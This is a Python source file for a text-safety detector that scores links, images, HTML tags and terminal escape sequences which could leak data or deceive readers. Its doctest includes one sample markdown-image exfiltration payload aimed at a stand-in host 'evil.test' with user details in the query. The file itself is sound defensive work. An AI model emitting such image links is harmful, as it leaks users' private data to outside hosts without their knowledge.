"""Exfiltration: what in an output would carry data away, or lead a reader astray, when shown.

Nothing is fetched or looked up.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from itertools import islice

from trimtab.errors import ConfigError
from trimtab.signals.addresses import (
    Address,
    carries,
    is_disguised,
    is_ip,
    is_near,
    is_script,
    parsed,
    within,
)
from trimtab.signals.finding import NOTHING, Finding, Reading
from trimtab.signals.growing import Stretches, given, seen
from trimtab.signals.links import OPEN, Link, links
from trimtab.signals.pii.tlds import KNOWN
from trimtab.signals.quoted_code import is_quoted_code
from trimtab.signals.signal import NOBODY, About
from trimtab.signals.text import Text

_MOST = 1000
_SHOWN_AS_CODE = 0.5
# As bad in code, which readers copy and run.
_COPIED = frozenset(
    {
        "ambiguous_host",
        "homoglyph_host",
        "host_not_allowed",
        "punycode_host",
        "url_with_credentials",
    }
)
_ACTIVE = frozenset({"html_script", "html_iframe", "html_frame", "html_embed", "html_object"})
_HOST = re.compile(r"(?is)(https?://|www\.)?((?:[\w-]{1,63}\.)+[a-z]{2,24})(?:[/:?#].*)?\Z")
_ALLOWED = re.compile(r"(?:\*\.)?[\w-]+(?:\.[\w-]+)*\Z")
# Of ECMA-48: an operating system command, a device control string, or a control sequence.
_ESCAPE = re.compile(
    r"(?:\x1b\]|\x9d)([^\x07\x1b\x9c]*)|(?:\x1b\[|\x9b)([0-9;?]*[ -/]*[@-~])|\x1bP"
)

_SEQUENCES = Stretches(("(?:\x1b\\]|\x9d)[^\x07\x1b\x9c]*", "(?:\x1b\\[|\x9b)[0-9;?]*[ -/]*"))


class Exfiltration:
    """Links, images, tags and terminal sequences by which a text could leak or deceive.

    The score is that of the worst finding: a picture that a renderer loads unasked is .3, with data
    in its address up to .9; a link with data up to .6, in its query to .75; a link that says
    nothing odd is no finding. Hosts that pass for others, addresses with credentials, script and
    page addresses, redirects and links whose text names another host are findings of their own.
    What Markdown shows as code counts half.

    Args:
        allowed_hosts: hosts of which nothing is said, exact (`example.org`) or with all that lie
            below one (`*.example.org`). With any, every other host is a finding.
    Raises:
        ConfigError: a host is written with a scheme, a path or a port.

    >>> from trimtab.signals.text import Text
    >>> said = Text("![x](https://evil.test/p.png?data=the+user+lives+in+Ghent)")
    >>> [(f.kind, f.score) for f in Exfiltration().read(said).findings]
    [('markdown_image', 0.72)]
    >>> Exfiltration(allowed_hosts=["evil.test"]).read(said).score
    0.0
    """

    name = "exfiltration"
    version = "4"
    scale = "risk"
    lookback_chars = 2048
    lookahead_chars = 128
    is_learned = False

    def __init__(self, *, allowed_hosts: Sequence[str] = ()) -> None:
        for host in allowed_hosts:
            if not _ALLOWED.match(host):
                raise ConfigError(
                    f"not a host: {host!r}",
                    where="allowed_hosts",
                    fix="write example.org or *.example.org",
                )
        self._allowed = tuple(host.lower() for host in allowed_hosts)

    def read(self, text: Text, about: About = NOBODY) -> Reading:
        """The worst of what is found; at most a thousand links and sequences are looked at.

        Terminal sequences are looked for in the text as it was given: what is left of them after
        normalising does nothing. So are the letters of hosts.
        """
        del about
        found = list(islice(_terminal(text.raw), _MOST))
        for link in islice(links(text.plain), _MOST):
            found += self._judged(text, link)
        if not found:
            return NOTHING
        kept = _apart(sorted(found))
        return Reading(score=max(one.score for one in kept), findings=tuple(kept))

    def cut(self, text: Text, at: int) -> int:
        """The last place up to `at` that lies in no link, tag or sequence, however long."""
        place = given(text, OPEN.cut(text.plain, seen(text, at)))
        return _SEQUENCES.cut(text.raw, place)

    def _judged(self, text: Text, link: Link) -> Iterator[Finding]:
        start, end = text.raw_span(link.start, link.end)
        risks = list(self._risks(text, link))
        if risks and is_quoted_code(text.plain, link.start, link.end):
            risks = [
                (kind, score if kind in _COPIED else _SHOWN_AS_CODE * score)
                for kind, score in risks
            ]
        for kind, score in risks:
            yield Finding(start=start, end=end, kind=kind, score=round(score, 4))

    def _risks(self, text: Text, link: Link) -> Iterator[tuple[str, float]]:
        address = parsed(link.target)
        if is_script(address):
            yield "script_uri", 0.9
        elif address.scheme == "data":
            yield from _data_uri(address)
        elif address.host:
            yield from self._of_host(text, link, address)

    def _of_host(self, text: Text, link: Link, address: Address) -> Iterator[tuple[str, float]]:
        first, last = text.raw_span(link.at, link.at + len(link.target))
        hosts = (address.host, parsed(text.raw[first:last]).host)
        yield from _tricks(link, address, hosts)
        passed = not any(map(is_disguised, hosts))
        if passed and any(within(address.host, host) for host in self._allowed):
            if _leads_on(address):
                yield "redirect", 0.4
            return
        if self._allowed:
            yield "host_not_allowed", 0.9 if link.loads else 0.6
        if is_ip(address.host):
            yield "ip_host", 0.2 if is_near(address.host) else 0.5
        score = _carrier(link, carries(address))
        if link.kind in {"markdown_link", "html_link", "reference_link"}:
            query = address.tail.partition("?")[2]
            score = max(score, 0.75 * carries(address._replace(host="", tail=f"?{query}")))
        if score > 0:
            yield link.kind, score


def _tricks(link: Link, address: Address, hosts: Sequence[str]) -> Iterator[tuple[str, float]]:
    """What is odd in an address whichever host it leads to."""
    if any(map(is_disguised, hosts)):
        yield "homoglyph_host", 0.8
    elif "xn--" in address.host:
        yield "punycode_host", 0.4
    if address.user:
        yield "url_with_credentials", 0.7
    if "\\" in link.target.partition("?")[0]:
        # Browsers take it for a slash, other programs do not, and so go to another host.
        yield "ambiguous_host", 0.6
    label = _HOST.match(link.label.strip())
    if label and _is_host(label) and not _same_site(label.group(2).lower(), address.host):
        yield "mismatched_link", 0.6


def _is_host(label: re.Match[str]) -> bool:
    """Whether what a link says is meant for a host, and no file, program or attribute."""
    begun, host = label.group(1), label.group(2).lower()
    if begun:
        return True
    name, _, top = host.rpartition(".")
    return top in _TOPS and name not in _PRODUCTS


_ENDINGS = frozenset({"cc", "md", "ml", "name", "pl", "ps", "py", "rs", "run", "sh", "so"})
_TOPS = (KNOWN | {"example", "internal", "local", "test"}) - _ENDINGS
_PRODUCTS = frozenset({"ado", "asp", "ml", "vb"})


def _carrier(link: Link, data: float) -> float:
    if link.kind in _ACTIVE:
        return 0.7 + 0.2 * data
    if link.kind in {"html_form", "html_refresh", "html_base"}:
        return 0.6 + 0.3 * data
    return 0.3 + 0.6 * data if link.loads else 0.6 * data


def _data_uri(address: Address) -> Iterator[tuple[str, float]]:
    kind = address.tail[:64].lstrip().lower()
    if kind.startswith(("text/html", "application/xhtml", "text/xml", "application/xml")):
        yield "data_uri", 0.8
    elif kind.startswith(("image/svg", "text/javascript", "application/javascript")):
        yield "data_uri", 0.6
    elif not kind.startswith(("image/", "audio/", "video/", "font/")):
        yield "data_uri", 0.3


def _leads_on(address: Address) -> bool:
    query = address.tail.partition("?")[2].lower()
    return re.search(r"=(?:https?:|https?%3a|//|%2f%2f)", query) is not None


def _same_site(shown: str, host: str) -> bool:
    shown, host = shown.removeprefix("www."), host.removeprefix("www.")
    return shown == host or host.endswith("." + shown) or shown.endswith("." + host)


def _terminal(raw: str) -> Iterator[Finding]:
    if raw.isascii() and "\x1b" not in raw:
        return
    for found in _ESCAPE.finditer(raw):
        command, control = found.groups()
        if command is not None and command.startswith("8;"):
            if command == "8;;":
                continue
            kind, score = "terminal_hyperlink", 0.7
        elif command is not None:
            # 52 writes to the clipboard; others set the title, colours or the working directory.
            kind, score = "terminal_escape", 0.9 if command.startswith("52;") else 0.6
        else:
            kind, score = "terminal_escape", 0.2 if (control or "").endswith("m") else 0.5
        yield Finding(start=found.start(), end=found.end(), kind=kind, score=score)


def _apart(found: list[Finding]) -> list[Finding]:
    """Findings of which none lies over another of its kind; the higher score stays."""
    last: dict[str, int] = {}
    kept: list[Finding] = []
    for one in found:
        at = last.get(one.kind)
        if at is not None and kept[at].end > one.start:
            if one.score > kept[at].score:
                kept[at] = one
            continue
        last[one.kind] = len(kept)
        kept.append(one)
    return sorted(kept)
